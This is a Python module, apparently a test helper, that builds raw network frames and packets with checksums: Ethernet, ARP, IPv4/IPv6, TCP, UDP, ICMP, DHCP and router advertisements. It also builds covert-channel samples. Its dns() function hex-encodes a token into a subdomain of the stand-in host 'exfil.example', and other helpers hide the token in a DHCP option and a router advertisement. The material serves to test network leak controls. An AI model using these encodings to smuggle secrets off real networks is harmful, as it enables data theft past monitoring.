"""Frames built byte by byte with struct: Ethernet, ARP, IPv4, IPv6 and what rides on them.

Checksums are right where the kernel looks at them: a frame dropped for a wrong checksum would prove nothing.
Sources: RFC 791, 792, 793, 768, 826, 2131, 2460, 4443, 4861, 9293, IEEE 802.1Q, 802.3.
"""

import socket
import struct

BROADCAST = "ff:ff:ff:ff:ff:ff"
ARP_REQUEST, ARP_REPLY = 1, 2
ETH_IPV4, ETH_ARP, ETH_IPV6, ETH_VLAN, ETH_QINQ = 0x0800, 0x0806, 0x86DD, 0x8100, 0x88A8
ICMP, IGMP, IPIP, TCP, UDP, DCCP, IPV6_IN_IPV4 = 1, 2, 4, 6, 17, 33, 41
GRE, ESP, AH, OSPF, SCTP, UDP_LITE = 47, 50, 51, 89, 132, 136
HOP_BY_HOP, ROUTING, FRAGMENT, ICMPV6, NO_NEXT, DESTINATION = 0, 43, 44, 58, 59, 60
SYN, ACK, PSH = 0x02, 0x10, 0x08
_SMALLEST = 60


def mac_bytes(text: str) -> bytes:
    """The six bytes of `02:50:…`."""
    return bytes.fromhex(text.replace(":", ""))


def ip_bytes(text: str) -> bytes:
    """The four or sixteen bytes of an address."""
    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _summed(source: str, target: str, protocol: int, segment: bytes, offset: int) -> bytes:
    """`segment` with its checksum over the pseudo header, at `offset`."""
    ends = ip_bytes(source) + ip_bytes(target)
    pseudo = ends + (struct.pack("!IHBB", len(segment), 0, 0, protocol) if len(ends) == 32 else
                     struct.pack("!BBH", 0, protocol, len(segment)))  # fmt: skip
    found = checksum(pseudo + segment) or 0xFFFF
    return segment[:offset] + struct.pack("!H", found) + segment[offset + 2 :]


def ether(
    target: str, source: str, kind: int, payload: bytes, *, tags: tuple[tuple[int, int], ...] = ()
) -> bytes:
    """A frame; `tags` are (ethertype, tag control) pairs, the outermost first. Filled up to 60 bytes."""
    tagged = b"".join(struct.pack("!HH", *tag) for tag in tags)
    head = mac_bytes(target) + mac_bytes(source) + tagged + struct.pack("!H", kind)
    return (head + payload).ljust(_SMALLEST, b"\0")


def llc(target: str, source: str, sap: int, payload: bytes) -> bytes:
    """An 802.3 frame: a length in the place of the ethertype, then LLC with `sap` at both ends."""
    inner = struct.pack("!BBB", sap, sap, 0x03) + payload
    return ether(target, source, len(inner), inner)


def snap(target: str, source: str, kind: int, payload: bytes, *, oui: bytes = b"\0\0\0") -> bytes:
    """An 802.3 frame with LLC and SNAP; `kind` as in Ethernet where `oui` is zero (RFC 1042)."""
    return llc(target, source, 0xAA, oui + struct.pack("!H", kind) + payload)


def arp(operation: int, sender: tuple[str, str], target: tuple[str, str], *, more: bytes = b"") -> bytes:
    """An ARP body; `sender` and `target` are (MAC, IP), `more` rides behind it."""
    pairs = b"".join(mac_bytes(mac) + ip_bytes(ip) for mac, ip in (sender, target))
    return struct.pack("!HHBBH", 1, ETH_IPV4, 6, 4, operation) + pairs + more


def ipv4(
    source: str,
    target: str,
    protocol: int,
    payload: bytes,
    *,
    options: bytes = b"",
    offset: int = 0,
    more: bool = False,
    ident: int = 0,
    ttl: int = 64,
    bits: int = 0,
) -> bytes:
    """An IPv4 packet; `offset` in bytes (a multiple of 8), `options` filled up to whole words, `bits` beside those."""
    options += b"\0" * (-len(options) % 4)
    words = 5 + len(options) // 4
    bits |= (0x2000 if more else 0) | offset // 8
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(payload), ident, bits, ttl, protocol, 0)
    head += ip_bytes(source) + ip_bytes(target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(source: str, target: str, following: int, payload: bytes, *, hops: int = 64) -> bytes:
    """An IPv6 packet; `following` is the next header's number."""
    head = struct.pack("!IHBB", 0x60000000, len(payload), following, hops)
    return head + ip_bytes(source) + ip_bytes(target) + payload


def extension(following: int, *, kind: int = 0) -> bytes:
    """A header of eight bytes between IPv6 and what follows: hop-by-hop, destination options, or routing."""
    rest = b"\x01\x04\0\0\0\0" if not kind else struct.pack("!BBI", kind, 0, 0)
    return struct.pack("!BB", following, 0) + rest


def fragment(following: int, *, offset: int = 0, more: bool = False, ident: int = 1) -> bytes:
    """IPv6's fragment header; `offset` in bytes."""
    return struct.pack("!BBHI", following, 0, offset | more, ident)


def udp(source: str, target: str, ports: tuple[int, int], payload: bytes) -> bytes:
    """A UDP datagram over either IP with its checksum; `ports` from, to."""
    head = struct.pack("!HHHH", *ports, 8 + len(payload), 0)
    return _summed(source, target, UDP, head + payload, 6)


def tcp(
    source: str,
    target: str,
    ports: tuple[int, int],
    payload: bytes = b"",
    *,
    flags: int = SYN,
    sequence: int = 0,
    acknowledged: int = 0,
) -> bytes:
    """A TCP segment with its checksum; `ports` from, to."""
    head = struct.pack("!HHIIBBHHH", *ports, sequence, acknowledged, 0x50, flags, 64240, 0, 0)
    return _summed(source, target, TCP, head + payload, 16)


def icmp(kind: int, code: int, rest: bytes, payload: bytes = b"") -> bytes:
    """An ICMP message; `rest` are the four bytes behind the checksum."""
    message = struct.pack("!BBH", kind, code, 0) + rest + payload
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def icmpv6(source: str, target: str, kind: int, body: bytes, *, code: int = 0) -> bytes:
    """An ICMPv6 message with its checksum."""
    return _summed(source, target, ICMPV6, struct.pack("!BBH", kind, code, 0) + body, 2)


def dns_name(*labels: str) -> bytes:
    """A name as DNS writes it."""
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def dns(token: bytes, *, answers: bool = False) -> bytes:
    """A query for a name that is the token in hex; the token itself rides behind it."""
    head = struct.pack("!HHHHHH", 0x2345, 0x8400 if answers else 0x0100, 1, 0, 0, 0)
    return head + dns_name(token.hex(), "exfil", "example") + struct.pack("!HH", 1, 1) + token


def dhcp(operation: int, message: int, mac: str, token: bytes, *, offered: str = "0.0.0.0") -> bytes:
    """A DHCP message (RFC 2131); `operation` 1 asks, 2 answers, `message` as in option 53."""
    head = struct.pack("!BBBB4sHH", operation, 1, 6, 0, token[:4], 0, 0x8000)
    head += bytes(4) + ip_bytes(offered) + bytes(8) + mac_bytes(mac).ljust(16, b"\0") + bytes(192)
    return head + b"\x63\x82\x53\x63" + bytes([53, 1, message]) + bytes([12, len(token)]) + token + b"\xff"


def advertisement(source: str, target: str, token: bytes) -> bytes:
    """A router advertisement with a prefix and, where its link address would be, the token (RFC 4861 4.2)."""
    body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + bytes([1, 2]) + token[:8].ljust(14, b"\0")
    return icmpv6(source, target, 134, body)
